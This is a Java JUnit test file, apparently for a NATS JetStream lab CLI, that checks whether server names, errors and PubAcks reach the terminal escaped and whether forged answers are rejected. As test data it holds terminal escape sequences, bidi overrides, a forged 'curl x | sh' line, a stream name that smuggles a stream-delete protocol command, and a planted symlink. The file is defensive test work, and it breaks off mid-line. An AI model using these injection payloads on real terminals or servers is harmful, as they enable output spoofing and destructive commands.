// What a server says is data: a server name, a version, a stream, consumer, cluster or replica name,
// an error description. Each reaches the terminal escaped (no escape code, bidi override or
// zero-width mark takes effect, no line is forged), on every output path, -j included.

import io.nats.client.Connection;
import io.nats.client.Message;
import io.nats.client.support.JsonParser;
import io.nats.client.support.JsonValue;
import org.junit.jupiter.api.Test;

import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Function;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class HostileServerTest extends WithServer {
    private static final String ESC = "\u001b";
    /** Sets the terminal's title, then clears the screen. */
    private static final String OSC_AND_CLEAR = ESC + "]0;owned\u0007" + ESC + "[2J";
    private static final String STREAM_INFO = "{\"type\":\"io.nats.jetstream.api.v1.stream_info_response\","
            + "\"config\":{\"name\":\"LAB4_STREAM\",\"subjects\":[\"lab4.stream\"],\"retention\":\"limits\","
            + "\"storage\":\"file\",\"num_replicas\":3,\"duplicate_window\":120000000000,\"discard\":\"old\","
            + "\"description\":\"raw " + ESC + "[31m in the JSON\"},"
            + "\"created\":\"2026-12-03T07:28:48Z\",\"state\":{\"messages\":1,\"bytes\":10,\"first_seq\":1,"
            + "\"last_seq\":1,\"consumer_count\":1},\"cluster\":{\"name\":" + FakeNatsServer.json("c" + OSC_AND_CLEAR)
            + ",\"leader\":" + FakeNatsServer.json("leader\u202eX") + ",\"replicas\":[{\"name\":"
            + FakeNatsServer.json("replica" + ESC + "]8;;http://x" + ESC + "\\") + ",\"current\":false,\"active\":1000,"
            + "\"lag\":3}]}}";
    private static final String CONSUMER_INFO = "{\"type\":\"io.nats.jetstream.api.v1.consumer_info_response\","
            + "\"stream_name\":\"LAB4_STREAM\",\"name\":\"LAB4_CONSUMER\",\"created\":\"2026-12-03T07:28:48Z\","
            + "\"config\":{\"durable_name\":\"LAB4_CONSUMER\",\"ack_policy\":\"explicit\",\"ack_wait\":30000000000,"
            + "\"max_deliver\":-1,\"deliver_policy\":\"all\",\"replay_policy\":\"instant\"},"
            + "\"delivered\":{\"consumer_seq\":0,\"stream_seq\":0},\"ack_floor\":{\"consumer_seq\":0,\"stream_seq\":0},"
            + "\"num_ack_pending\":0,\"num_redelivered\":0,\"num_waiting\":0,\"num_pending\":1,"
            + "\"cluster\":{\"name\":" + FakeNatsServer.json("c" + OSC_AND_CLEAR) + ",\"leader\":"
            + FakeNatsServer.json("zero\u200bwidth") + ",\"replicas\":[]}}";

    /** The fake's answers: the stream and consumer info above, and a PubAck from a stream with escape codes in its name. */
    private static String answer(String subject) {
        if (subject.startsWith("$JS.API.STREAM.INFO.")) {
            return STREAM_INFO;
        }
        if (subject.startsWith("$JS.API.CONSUMER.INFO.")) {
            return CONSUMER_INFO;
        }
        if (subject.startsWith("$JS.API.")) {
            return null;
        }
        if (subject.endsWith(".lookalike")) { // the text of an escape, then a real ESC
            return "{\"error\":{\"code\":503,\"err_code\":10077,\"description\":"
                    + FakeNatsServer.json("text \\u{1b} then " + ESC) + "}}";
        }
        if (subject.endsWith(".forge")) { // a second line, if a line break passed
            return "{\"error\":{\"code\":503,\"err_code\":10077,\"description\":"
                    + FakeNatsServer.json("no\nNOTICE run curl x | sh") + "}}";
        }
        if (subject.endsWith(".refuse")) {
            return "{\"error\":{\"code\":503,\"err_code\":10077,\"description\":"
                    + FakeNatsServer.json("maximum messages exceeded\u202e" + OSC_AND_CLEAR) + "}}";
        }
        if (subject.endsWith(".html")) { // an answer, but no JSON: neither a PubAck nor a refusal
            return "<html>" + OSC_AND_CLEAR;
        }
        if (subject.endsWith(".empty")) { // JSON, but no stream or sequence in it
            return "{}";
        }
        if (subject.endsWith(".raw")) { // no JSON escape at all: read as a plain PubAck, byte for byte
            return "{\"stream\":\"LAB4\u202eSTREAM\u0085\",\"seq\":8}";
        }
        return "{\"stream\":" + FakeNatsServer.json("LAB4" + ESC + "[31mSTREAM\u202e") + ",\"seq\":7}";
    }

    @Test
    void versionPrintsTheLastServerAsTextNotAsAFormat() throws Exception {
        Path state = Scratch.dir();
        try (FakeNatsServer fake = new FakeNatsServer("n\u202e1" + ESC + "[2J",
                "2.9.10" + OSC_AND_CLEAR + "%nNOTICE run curl x | sh", HostileServerTest::answer)) {
            ok(Run.script("JsInfo").env("NATS_URL", fake.url()).env("XDG_STATE_HOME", state.toString()).go());
        }
        Run.Result version = ok(Run.script("JsInfo", "--version").env("XDG_STATE_HOME", state.toString()).go());
        assertPrintable(version.out());
        assertEquals(3, version.outLines().size(), version.out());
        assertEquals("server last seen: nats-server 2.9.10\\u{1b}]0;owned\\u{7}\\u{1b}[2J%nNOTICE run curl x | sh "
                + "(n\\u{202e}1\\u{1b}[2J)", version.outLines().get(2));
    }

    @Test
    void theLastServerFileIsNeverWrittenThroughALink() throws Exception {
        Path state = Scratch.dir();
        Path victim = Scratch.dir().resolve("victim");
        Files.writeString(victim, "precious\n");
        Files.createDirectories(state.resolve("jetstream-lab"));
        Path link = state.resolve("jetstream-lab").resolve("last-server");
        Files.createSymbolicLink(link, victim);
        try (FakeNatsServer fake = new FakeNatsServer("n1\ncurl x | sh\n", "2.9.10", HostileServerTest::answer)) {
            ok(Run.script("JsInfo").env("NATS_URL", fake.url()).env("XDG_STATE_HOME", state.toString()).go());
        }
        assertEquals("precious\n", Files.readString(victim), "a planted link made the run write its target");
        assertFalse(Files.isSymbolicLink(link));
        Run.Result version = ok(Run.script("JsInfo", "--version").env("XDG_STATE_HOME", state.toString()).go());
        assertEquals("server last seen: nats-server 2.9.10 (n1\\ncurl x | sh\\n)", version.outLines().get(2));
    }

    /** A max_payload no nats-server sends (past a long's range, read as 0) is no limit a message is over: the run is not refused as too big. */
    @Test
    void aMaxPayloadNoServerSendsRefusesNoMessage() throws Exception {
        for (String said : List.of("9223372036854775808", "0", "-5")) {
            try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> "{\"stream\":\"LAB4_STREAM\",\"seq\":1}")
                    .infoAs(info -> info.replace("\"max_payload\":1048576", "\"max_payload\":" + said))) {
                Run.Result result = Run.script("JsPub", "hello").env("NATS_URL", fake.url()).go();
                assertEquals("INFO published \"hello\" to stream LAB4_STREAM (seq 1)\n", result.out(), said + ": " + result);
            }
        }
    }

    /**
     * An answer to a JetStream request with a header jnats cannot read (a byte past ASCII) stops jnats' reader:
     * each script says an answer came that could not be read, never that none came.
     */
    @Test
    void anAnswerWithAHeaderJnatsCannotReadIsNoSilence() throws Exception {
        String came = "an answer came with headers jnats cannot read (Header value has invalid character: 0xe9), and jnats "
                + "stopped reading the connection at it";
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", subject -> "NATS/1.0\r\nTrace-Id: caf\u00e9\r\n\r\n{}")) {
            for (List<String> run : List.of(List.of("JsInfo"), List.of("JsInfo", "--list"), List.of("JsBootstrap"), List.of("JsPurge"),
                    List.of("JsPull"), List.of("JsPull", "--ephemeral"), List.of("JsPub", "hi"))) {
                List<String> args = new java.util.ArrayList<>(run.subList(1, run.size()));
                args.addAll(List.of("--timeout", "1s"));
                Run.Result result = Run.script(run.get(0), args.toArray(String[]::new)).env("NATS_URL", fake.url()).go();
                assertEquals(Exit.FAILED, result.exit(), run + ": " + result);
                assertEquals(1, result.err().lines().count(), run + ": " + result);
                assertTrue(result.err().startsWith("ERROR ") && result.err().contains(": " + came), run + ": " + result);
            }
        }
    }

    /** A home folder that does not exist (HOME=/nonexistent, a system account's) is not made to keep the last server in. */
    @Test
    void aHomeThatDoesNotExistIsNotMadeForTheLastServer() throws Exception {
        Path home = Scratch.dir().resolve("nonexistent");
        try (FakeNatsServer fake = new FakeNatsServer("n1", "2.9.10", HostileServerTest::answer)) {
            ok(Run.script("JsInfo").env("NATS_URL", fake.url()).env("HOME", home.toString()).env("XDG_STATE_HOME", "").go());
        }
        assertFalse(Files.exists(home), "made " + home);
    }

    /**
     * How long ago a replica's leader last heard from it is the server's word on whether that copy is alive:
     * 0 means never (nats-server sends 0 for a peer it has no time for), which after a leader's death is
     * the dead node seen by a leader elected since.
     */
    @Test
    void jsInfoSaysWhichReplicasTheLeaderHasNotHeardFrom() throws Exception {
        String replicas = "[{\"name\":\"n1\",\"current\":true,\"active\":700000000},"
                + "{\"name\":\"n2\",\"current\":true,\"active\":0},"
                + "{\"name\":\"n4\",\"current\":false,\"active\":9000000000,\"lag\":5},"
                + "{\"name\":\"n5\",\"current\":false,\"active\":12000000000}]"; // not current, and no lag said
        Function<String, String> answers = subject -> subject.startsWith("$JS.API.STREAM.INFO.") ? STREAM_INFO
                .replaceFirst("\"cluster\":.*", "\"cluster\":{\"name\":\"lab\",\"leader\":\"n3\",\"replicas\":" + replicas + "}}")
                .replace("\"num_replicas\":3", "\"num_replicas\":5") : answer(subject);
        try (FakeNatsServer fake = new FakeNatsServer("n3", "2.9.10", List.of("127.0.0.1:1"), answers)) {
            List<String> rows = ok(Run.script("JsInfo").env("NATS_URL", fake.url()).go()).outLines().subList(6, 11);
            assertEquals(List.of(
                    "  cluster:        lab, 5 replicas, leader n3",
                    "  replica n1:     current",
                    "  replica n2:     current as far as the leader knows, never heard from by this leader: down, cut off from it, "
                            + "or the leader is only just elected",
                    "  replica n4:     not current (lag 5 operations), last heard from 9s ago: down, cut off from the leader, or not "
                            + "caught up yet after a restart",
                    "  replica n5:     not current, last heard from 12s ago: down, cut off from the leader, or not caught up "
                            + "yet after a restart"), rows);
        }
        // no leader (an election): each replica that knows of none answers with its own copy; none can tell how the others are
        String leaderless = "[{\"name\":\"n1\",\"current\":false,\"active\":9000000000,\"lag\":1439},"
                + "{\"name\":\"n2\",\"current\":false,\"offline\":true,\"active\":0},"
                + "{\"name\":\"n3\",\"current\":true,\"active\":0}]";
        Function<String, String> electing = subject -> subject.startsWith("$JS.API.STREAM.INFO.") ? STREAM_INFO
                .replaceFirst("\"cluster\":.*", "\"cluster\":{\"name\":\"lab\",\"replicas\":" + leaderless + "}}") : answer(subject);
        try (FakeNatsServer fake = new FakeNatsServer("n3", "2.9.10", List.of("127.0.0.1:1"), electing)) {
            List<String> rows = ok(Run.script("JsInfo").env("NATS_URL", fake.url()).go()).outLines().subList(6, 10);
            assertEquals(List.of(
                    "  cluster:        lab, 3 replicas, leader none right now (an election takes seconds; if this persists, a majority "
                            + "of the replicas is down or cut off): what this shows is one replica's own copy, which may be behind",
                    "  replica n1:     not known: no leader to ask",
                    "  replica n2:     offline",
                    "  replica n3:     up: it answered; not known whether current: no leader to ask"), rows);
        }
    }

    @Test
    void jsInfoShowsClusterLeaderAndReplicaNamesEscaped() throws Exception {
        try (FakeNatsServer fake = new FakeNatsServer("me" + OSC_AND_CLEAR, "2.9.10", HostileServerTest::answer)) {
            Run.Result shown = ok(Run.script("JsInfo").env("NATS_URL", fake.url()).go());
            assertPrintable(shown.out());
            assertTrue(shown.out().contains("cluster:        c\\u{1b}]0;owned\\u{7}\\u{1b}[2J, 3 replicas, leader "
                    + "leader\\u{202e}X"), shown.out());
            assertTrue(shown.out().contains("replica replica\\u{1b}]8;;http://x\\u{1b}\\\\: offline (me\\u{1b}]0;owned"),
                    shown.out());
            assertTrue(shown.out().contains("leader zero\\u{200b}width"), shown.out());

            Run.Result json = ok(Run.script("JsInfo", "-j").env("NATS_URL", fake.url()).go());
            assertPrintable(json.out());
            assertEquals(1, json.outLines().size(), json.out());
            JsonValue parsed = JsonParser.parse(json.out().strip());
            JsonValue cluster = parsed.map.get("stream").map.get("cluster");
            assertEquals("c" + OSC_AND_CLEAR, cluster.map.get("name").string, "the JSON still means the same");
            assertEquals("leader\u202eX", cluster.map.get("leader").string);
            assertTrue(json.out().contains("raw \\u001b[31m in the JSON"), json.out());
        }
    }

    @Test
    void pubAckStreamNameAndRefusalAreEscaped() throws Exception {
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", HostileServerTest::answer)) {
            Run.Result published = ok(Run.script("JsPub", "hello").env("NATS_URL", fake.url()).go());
            assertPrintable(published.out() + published.err());
            assertTrue(published.out().contains("to stream LAB4\\u{1b}[31mSTREAM\\u{202e} (seq 7)"), published.out());

            Run.Result json = ok(Run.script("JsPub", "-j", "hello").env("NATS_URL", fake.url()).go());
            assertPrintable(json.out());
            assertEquals("LAB4" + ESC + "[31mSTREAM\u202e", JsonParser.parse(json.out().strip()).map.get("stream").string);

            Run.Result refused = Run.script("JsPub", "--subject", "lab4.refuse", "hello").env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, refused.exit(), refused.toString());
            assertPrintable(refused.out() + refused.err());
            assertTrue(refused.err().contains("maximum messages exceeded\\u{202e}\\u{1b}]0;owned"), refused.err());
            assertEquals(1, refused.err().lines().count(), refused.err());
        }
    }

    /** A bulk run reads its PubAcks off its own reply subject: the stream name and a refusal still reach the terminal escaped. */
    @Test
    void aBulkRunShowsTheStreamNameAndARefusalEscaped() throws Exception {
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", HostileServerTest::answer)) {
            Run.Result published = ok(Run.script("JsPub", "--count", "3", "hello").env("NATS_URL", fake.url()).go());
            assertPrintable(published.out() + published.err());
            assertTrue(published.out().contains("to stream LAB4\\u{1b}[31mSTREAM\\u{202e} (seq 7)"), published.out());

            Run.Result raw = ok(Run.script("JsPub", "--subject", "lab4.raw", "--count", "3", "hello").env("NATS_URL", fake.url()).go());
            assertPrintable(raw.out() + raw.err());
            assertTrue(raw.out().contains("to stream LAB4\\u{202e}STREAM"), raw.out());

            Run.Result refused = Run.script("JsPub", "--subject", "lab4.refuse", "--count", "3", "hello")
                    .env("NATS_URL", fake.url()).go();
            assertEquals(Exit.FAILED, refused.exit(), refused.toString());
            assertPrintable(refused.out() + refused.err());
            assertTrue(refused.err().contains("maximum messages exceeded\\u{202e}\\u{1b}]0;owned"), refused.err());
        }
    }

    /** An answer to a publish that is no PubAck is no refusal either: stored or not, nobody can say, single or bulk. */
    @Test
    void anAnswerThatIsNoPubAckIsNeitherConfirmedNorRefused() throws Exception {
        try (FakeNatsServer fake = new FakeNatsServer("fake", "2.9.10", HostileServerTest::answer)) {
            for (String subject : new String[] {"lab4.html", "lab4.empty"}) {
                Run.Result one = Run.script("JsPub", "--subject", subject, "hello").env("NATS_URL", fake.url()).go();
                assertEquals(Exit.FAILED, one.exit(), one.toString());
                assertPrintable(one.out() + one.err());
                assertTrue(one.err().contains("no PubAck for \"hello\", so it may or may not be stored: the server's answer "
                        + "is not a PubAck"), one.err());
                assertFalse(one.err().contains("refused"), one.err());

                Run.Result bulk = Run.script("JsPub", "--subject", subject, "--count", "3", "hello")
                        .env("NATS_URL", fake.url()).go();
                assertEquals(Exit.FAILED, bulk.exit(), bulk.toString());
                assertPrintable(bulk.out() + bulk.err());
                // how many were sent before the first answer came back depends on the machine's pace
                java.util.regex.Matcher counts = java.util.regex.Pattern.compile("ERROR only 0 of 3 messages confirmed by a PubAck; "
                        + "3 not: 0 refused by the server, ([123]) sent without an answer \\(\\w+ may or may not be stored\\), "
                        + "([012]) never sent: the server's answer is not a PubAck.*\n").matcher(bulk.err());
                assertTrue(counts.matches(), bulk.err());
                assertEquals(3, Integer.parseInt(counts.group(1)) + Integer.parseInt(counts.group(2)), bulk.err());

                // with a server list (a cluster): an answer is no failover's symptom, so nothing is sent again
                String list = fake.url() + "," + fake.url().replace("127.0.0.1", "localhost");
                for (String[] run : new String[][] {{"hello"}, {"--count", "3", "hello"}}) {
                    Run.Result listed = Run.script("JsPub", "--subject", subject).args(run).env("NATS_URL", list).go();
                    assertEquals(Exit.FAILED, listed.exit(), listed.toString());
                    assertPrintable(listed.out() + listed.err());
                    assertTrue(listed.err().startsWith("ERROR "), listed.toString());
                    assertTrue(listed.err().contains("the server's answer is not a PubAck"), listed.toString());
                    assertEquals(1, listed.err().lines().count(), listed.toString());
                }
            }
        }
    }

    /**
     * Anything that listens on a subject can answer a publish. A PubAck-shaped answer whose stream name holds
     * line breaks and a second command (to delete another stream), or whose sequence is 0, is no PubAck: the
     * message is not counted as stored, and the name never reaches a request of the run's.
     */
    @Test
    void aPeerThatAnswersForAStreamCannotSendCommandsThroughItsName() throws Exception {
        bootstrap();
        try (Connection nc = connect()) {
            nc.jetStreamManagement().addStream(io.nats.client.api.StreamConfiguration.builder().name("VICTIM")
                    .subjects("victim.x").storageType(io.nats.client.api.StorageType.Memory).build());
            String injecting = "{\"stream\":\"X 0\\r\\n\\r\\nPUB $JS.API.STREAM.DELETE.VICTIM 0\\r\\n\\r\\nPUB junk\",\"seq\":1}";
            String raw = injecting.replace("\\r\\n", "\r\n"); // the line breaks as bytes, not JSON escapes
            io.nats.client.Dispatcher peer = nc.createDispatcher(msg -> nc.publish(msg.getReplyTo(),
                    (msg.getSubject().endsWith("zero") ? "{\"stream\":\"LAB4_STREAM\",\"seq\":0}"
                            : msg.getSubject().endsWith("raw") ? raw : injecting).getBytes(StandardCharsets.UTF_8)));
            peer.subscribe("peer.*");
            nc.flush(Duration.ofSeconds(5));
            for (String subject : new String[] {"peer.inject", "peer.raw", "peer.zero"}) {
                for (String[] run : new String[][] {{"--subject", subject, "hello"}, {"--subject", subject, "--count", "3", "hello"}}) {
                    Run.Result result = script("JsPub", run).go();
                    assertEquals(Exit.FAILED, result.exit(), result.toString());
                    assertPrintable(result.out() + result.err());
                    assertTrue(result.err().contains("the server's answer is not a PubAck"), result.toString());
                    assertFalse(result.out().contains("published"), result.toString());
                }
            }
            assertEquals("VICTIM", nc.jetStreamManagement().getStreamInfo("VICTIM").getConfiguration().getName());
        }
    }

    /**
     * A peer that sees js-pull's pull requests can send to their inbox: a message with no reply subject, or one that
     * is no ack subject, ends the run in one line, never shown or acked. (nats-server refuses a client's publish with
     * a reply under $JS.ACK., so only something posing as the server could send another consumer's ack subject: a
     * real delivery of another consumer is refused by the same check.)
     */
    @Test
    void aMessageAPeerSendsToThePullInboxIsNeverAcked() throws Exception {
        bootstrap();
        publish("real");
        try (Connection nc = connect()) {
            List<String> acksSeen = new CopyOnWriteArrayList<>();
            io.nats.client.Dispatcher spy = nc.createDispatcher(msg -> {
                if (!msg.isStatusMessage()) { // the server's "no responders" for a forged message whose inbox had closed
                    acksSeen.add(msg.getSubject());
                }
            });
            spy.subscribe("peer.>");
            AtomicReference<String> reply = new AtomicReference<>();
            io.nats.client.Dispatcher peer = nc.createDispatcher(msg -> nc.publish(msg.getReplyTo(), reply.get(),
                    "forged\u001b".getBytes(StandardCharsets.UTF_8)));
            peer.subscribe("$JS.API.CONSUMER.MSG.NEXT.LAB4_STREAM.LAB4_CONSUMER");
            nc.flush(Duration.ofSeconds(5));
            for (String forged : new String[] {"peer.not.an.ack", null, "$JS.FC.x.1"}) {
                reply.set(forged);
                for (String[] run : new String[][] {{"--wait", "1s"}, {"--batch", "5", "--wait", "1s"}}) {
                    Run.Result result = script("JsPull", run).go();
                    assertEquals(Exit.FAILED, result.exit(), result.toString());
                    assertTrue(result.err().startsWith(forged != null && forged.startsWith("$JS.")
                            ? "ERROR a message came to this run's inbox whose reply subject is no ack subject, so the run "
                            + "stopped without showing or acking it"
                            : "ERROR a message came to this run's inbox that is neither a JetStream "
                            + "delivery nor a status from the server, so the run stopped without showing or acking it"), result.toString());
                    assertFalse((result.out() + result.err()).contains("forged"), result.toString());
                    assertEquals(1, result.err().lines().count(), result.toString());
                }
            }
            nc.flush(Duration.ofSeconds(5));
            assertEquals(List.of(), acksSeen);

            nc.jetStreamManagement().addStream(io.nats.client.api.StreamConfiguration.builder().name("OTHER")
                    .subjects("other.x").storageType(io.nats.client.api.StorageType.Memory).build());
            nc.jetStreamManagement().addOrUpdateConsumer("OTHER", io.nats.client.api.ConsumerConfiguration.builder()
                    .durable("OC").build());
            nc.jetStream().publish("other.x", "theirs".getBytes(StandardCharsets.UTF_8));
            Message theirs = nc.jetStream().getConsumerContext("OTHER", "OC").next(Duration.ofSeconds(5));
            OwnDeliveries.check(theirs, "OTHER", "OC");
            String line = org.junit.jupiter.api.Assertions.assertThrows(OwnDeliveries.NotOurs.class,
                    () -> OwnDeliveries.check(theirs, "LAB4_STREAM", "LAB4_CONSUMER")).getMessage();
            assertTrue(line.startsWith("a message on \"other.x\""), line);
            assertTrue(line.contains(" came to this run's inbox with reply subject \"$JS.ACK.OTHER.OC.1.1.1."), line);
            assertTrue(line.endsWith(", not an ack subject of consumer \"LAB4_CONSUMER\" on stream \"LAB4_STREAM\", so the run "
                    + "stopped without showing or acking it (anything allowed to see this run's pull requests can send one)"), line);
        }
    }

    /**
     * Batches read each delivery's ack subject without jnats' metaData() (AckSubject): the same subjects are
     * deliveries, with the same stream, consumer and numbers, as jnats reads them (a 19-digit time, leading zeros, a
     * sign or digits of another script included), and a subject jnats refuses is refused.
     */
    @Test
    void anAckSubjectIsReadAsJnatsReadsIt() {
        List<String> subjects = new java.util.ArrayList<>(List.of("$JS.ACK.S.C.1.2.3.1796676306665012847.5",
                "$JS.ACK.S.C.1.2.3.4", "$JS.ACK.D.H.S.C.1.2.3.4.5", "$JS.ACK.D.H.S.C.1.2.3.4.5.r.x", "$JS.ACK.S.C.1.2.3.4.5.",
                "$JS.ACK.S.C.1.2.3.4.5..", "$JS.ACK.S.C.1.2.3", "$JS.ACK.S.C.1.2.3.4.5.6", "$JS.ACK..C.1.2.3.4.5",
                "$JS.ACK.S.C.1.2.3..5", "$JS.FC.S.C.1.2.3.4.5", "$JS.ACK.S.C.1.9223372036854775807.3.4.5",
                "$JS.ACK.S.C.1.9223372036854775808.3.4.5", "$JS.ACK.S.C.1.2.3.4.5.a.", "$JS.ACK.S\u00e9.C\u4e2d.1.2.3.4.5"));
        java.util.Random random = new java.util.Random(57);
        String parts = "0123456789.$JSACKxé-+\\u0661";
        for (int i = 0; i < 20000; i++) {
            StringBuilder s = new StringBuilder("$JS.ACK.S.C.1.22.3.1796676306665012847.5");
            for (int edits = 1 + random.nextInt(3); edits > 0; edits--) {
                int at = 8 + random.nextInt(s.length() - 8);
                switch (random.nextInt(3)) {
                    case 0 -> s.deleteCharAt(at);
                    case 1 -> s.insert(at, parts.charAt(random.nextInt(parts.length())));
                    default -> s.setCharAt(at, parts.charAt(random.nextInt(parts.length())));
                }
            }
            subjects.add(s.toString());
        }
        for (String subject : subjects) {
            io.nats.client.impl.NatsMessage delivery = new io.nats.client.impl.NatsMessage("x", subject, new byte[0]) {
                @Override
                public boolean isJetStream() {
                    return true; // as jnats makes a message whose reply subject starts $JS.ACK. or $JS.FC.
                }

                @Override
                public io.nats.client.impl.NatsJetStreamMetaData metaData() {
                    return new io.nats.client.impl.NatsJetStreamMetaData(this);
                }
            };
            io.nats.client.impl.NatsJetStreamMetaData jnats;
            try {
                jnats = new io.nats.client.impl.NatsJetStreamMetaData(delivery);
            } catch (IllegalArgumentException refused) {
                jnats = null;
            }
            AckSubject ours = AckSubject.of(delivery);
            if (jnats == null || !subject.startsWith("$JS.ACK.")) {
                assertEquals(null, ours, subject);
            } else {
                assertTrue(ours != null, subject + " is jnats' delivery " + jnats);
                assertEquals(List.of(jnats.getStream(), jnats.getConsumer(), jnats.deliveredCount(), jnats.streamSequence(),
                        jnats.consumerSequence(), jnats.pendingCount()), List.of(ours.stream(), ours.consumer(),
                        ours.delivered(), ours.streamSeq(), ours.consumerSeq(), ours.pending()), subject);
            }
        }
    }

    /**
     * A status is a message on the pull inbox too: a peer's "409 Consumer Deleted" or "409 Consumer is push based"
     * is not taken for the server's while the consumer's own info says otherwise.
     */
    @Test
    void aStatusAPeerSendsToThePullInboxIsCheckedAgainstTheConsumer() throws Exception {
        bootstrap();
        publish("real");
        for (String status : new String[] {"409 Consumer Deleted", "409 Consumer is push based"}) {
            try (StatusPeer peer = new StatusPeer(server.port, status)) {
                for (String[] run : new String[][] {{"--wait", "2s"}, {"--batch", "5", "--wait", "2s"}, {"--ephemeral", "--wait", "2s"}}) {
                    Run.Result result = script("JsPull", run).go();
                    assertEquals(0, result.exit(), result.toString());
                    assertPrintable(result.out() + result.err());
                    String warning = "WARN a status on this run's inbox said \"" + status.substring(4) + "\" (status 409), but consumer ";
                    assertEquals(1, result.err().split(java.util.regex.Pattern.quote(warning), -1).length - 1, result.toString());
                    assertTrue(result.err().contains(" is there and pulls, so the run goes on (anything allowed to see this run's "
                            + "pull requests can send one)\n"), result.toString());
                    assertFalse(result.err().contains("ERROR"), result.toString());
                }
            }
        }
        assertEquals("LAB4_CONSUMER", server.labConsumer().getName());
    }

    /**
     * On a cluster a publish nobody answers may mean an election; but when the JetStream API refuses (an account
     * without JetStream, error 10039), nothing can store the message, and js-pub says the server's refusal.
     */
    @Test
    void anAccountWithoutJetStreamOnAClusterIsNoElection() throws Exception {
        String refusal = "{\"type\":\"io.nats.jetstream.api.v1.stream_names_response\",\"error\":{\"code\":503,"
                + "\"err_code\":10039,\"description\":\"JetStream not enabled for account\"}}";
        try (FakeNatsServer fake = new FakeNatsServer("n1", "2.9.10", subject -> subject.equals("lab4.stream") ? "NATS/1.0 503\r\n\r\n"
                : subject.startsWith("$JS.API.") ? refusal : null).infoAs(info -> info.replace("\"jetstream\":true",
                "\"jetstream\":true,\"cluster\":\"c1\""))) {
            // a bulk run does not wait a minute for a leader first: no election gives this account JetStream
            for (String[] run : new String[][] {{"hi"}, {"--count", "3", "hi"}, {"--count", "3", "--sync", "hi"}}) {
                List<String> args = new java.util.ArrayList<>(List.of("--server", fake.url()));
                args.addAll(List.of(run));
                Run.Result result = Run.script("JsPub", args.toArray(String[]::new)).timeout(20).go();
                assertEquals(Exit.UNREACHABLE, result.exit(), result.toString());
                assertTrue(result.err().startsWith(RefusalTest.NO_JETSTREAM_FOR_ACCOUNT), result.toString());
                assertFalse(result.err().contains("leader"), result.toString());
            }
            // counted as on one server: nothing can store it, so it is refused, not "may or may not be stored"
            Run.Result lines = Run.script("JsPub", "--server", fake.url()).stdin("a\nb\n").timeout(20).go();
            assertEquals(RefusalTest.NO_JETSTREAM_FOR_ACCOUNT + " (line 1 of stdin; 0 messages confirmed by a PubAck, 1 "
                    + "refused by the server; the rest of stdin was not sent)\n", lines.err());
        }
    }

    /**
     * A pull request the consumer refuses (409 "Exceeded MaxRequestBatch of 5": its limits changed since the run read
     * them) brings nothing: in batches the run says so in one WARN line, not only that none arrived.
     */
    @Test
    void aRefusedPullRequestIsSaid() throws Exception {
        bootstrap();
        publish("real");
        try (StatusPeer peer = new StatusPeer(server.port, "409 Exceeded MaxRequestBatch of 5")) {
            Run.Result result = script("JsPull", "--batch", "10", "--wait", "1s").go();
            assertEquals(0, result.exit(), result.toString());
            String warning = "WARN consumer LAB4_CONSUMER refused a pull request of this run: \"Exceeded MaxRequestBatch of 5\" "
                    + "(status 409): nothing comes for it (js-info shows the consumer's limits; anything allowed to see this "
                    + "run's pull requests can send one too)\n";
            assertEquals(1, result.err().split(java.util.regex.Pattern.quote(warning), -1).length - 1, result.toString());
            assertTrue(result.out().contains("INFO done: 1 message pulled and acked"), result.toString());
        }
    }

    /**
     * A status that ends each pull request at once (a leadership change, a timeout, no responders: a peer
     * may send them all) ends no wait early: the run asks again, at a bounded pace, until the whole wait
     * passed, and only then says none arrived.
     */
    @Test
    void aStatusThatEndsEachPullAtOnceEndsNoWaitEarly() throws Exception {
        bootstrap();
        for (String status : new String[] {"408 Request Timeout", "409 Leadership Change", "503 No Responders"}) {
            try (StatusPeer peer = new StatusPeer(server.port, status)) {
                Run.Result result = script("JsPull", "--wait", "2s").go();
                assertEquals(0, result.exit(), result.toString());
                assertTrue(result.out().contains("INFO done: 0 messages pulled and acked; none arrived in the last 2s"),
                        result.toString());
                assertTrue(peer.requests.get() <= 2 * 4 + 3, peer.requests + " pull requests in 2s: " + result);
                long started = System.nanoTime();
                Run.Result ephemeral = script("JsPull", "--ephemeral", "--wait", "2s").go(); // its last line has no why
                assertEquals(0, ephemeral.exit(), ephemeral.toString());
                assertTrue(System.nanoTime() - started >= 1_950_000_000L, "ended after " + (System.nanoTime() - started) / 1e9
                        + "s: " + ephemeral);
            }
        }
    }

    /**
     * A pull request a status ended early stays open on the server until it expires: a message it gets then
     * never reaches the run. The last line bounds them by the consumer's ack pending (here another reader's
     * unacked message: "up to").
     */
    @Test
    void deliveriesToPullRequestsAStatusEndedAreNamedInTheLastLine() throws Exception {
        bootstrap();
        publish("held elsewhere");
        try (Connection nc = connect()) {
            io.nats.client.JetStreamSubscription other = nc.jetStream().subscribe(null,
                    io.nats.client.PullSubscribeOptions.bind("LAB4_STREAM", "LAB4_CONSUMER"));
            assertEquals(1, other.fetch(1, Duration.ofSeconds(5)).size()); // delivered, never acked
            try (StatusPeer peer = new StatusPeer(server.port, "408 Request Timeout")) {
                Run.Result result = script("JsPull", "--wait", "2s").go();
                assertEquals(0, result.exit(), result.toString());
                assertTrue(result.out().contains("; up to 1 more that the consumer may have sent and never reached this run (pull "
                        + "requests a status ended early stay open on the server until they expire, and what it sends them never "
                        + "reaches this run; js-info shows its ack pending)"), result.toString());
            }
        }
    }

    /** A peer that answers each pull request of a consumer on the lab's stream with STATUS on the request's inbox, and counts them. */
    private static final class StatusPeer implements AutoCloseable {
        final java.util.concurrent.atomic.AtomicInteger requests = new java.util.concurrent.atomic.AtomicInteger();
        private final Socket peer;

        StatusPeer(int port, String status) throws java.io.IOException {
            peer = new Socket(InetAddress.getLoopbackAddress(), port);
            java.io.OutputStream out = peer.getOutputStream();
            out.write(("CONNECT {\"verbose\":false,\"headers\":true,\"protocol\":1}\r\nSUB $JS.API.CONSUMER.MSG.NEXT."
